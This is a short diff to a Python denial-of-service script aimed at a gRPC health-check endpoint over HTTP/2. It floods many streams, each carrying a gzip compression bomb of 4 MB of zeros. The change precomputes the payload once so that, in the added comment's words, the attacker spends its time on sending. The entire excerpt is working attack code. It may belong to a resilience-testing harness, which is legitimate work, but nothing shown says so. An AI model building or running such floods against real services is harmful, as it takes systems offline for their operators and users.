@@ -5,15 +5,17 @@ import struct
 
 from wire import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, SERVICE, flood_connection, frame, literal, settings
 
+# Once, so that the attacker spends its time on sending: on the same machine, what it takes is taken from the service.
+PACKED = gzip.compress(bytes(4_000_000))
+BODY = struct.pack(">BI", 1, len(PACKED)) + PACKED
+
 
 def chunks():
     head = b"\x83\x86\x01\x01a" + literal(":path", SERVICE + "Check") + literal("content-type", "application/grpc")
     head += literal("te", "trailers") + literal("grpc-encoding", "gzip")
-    packed = gzip.compress(bytes(4_000_000))
-    body = struct.pack(">BI", 1, len(packed)) + packed
     for first in range(1, 1 << 30, 40):
         yield b"".join(
-            frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, body)
+            frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, BODY)
             for stream in range(first, first + 40, 2))  # fmt: skip
 
 
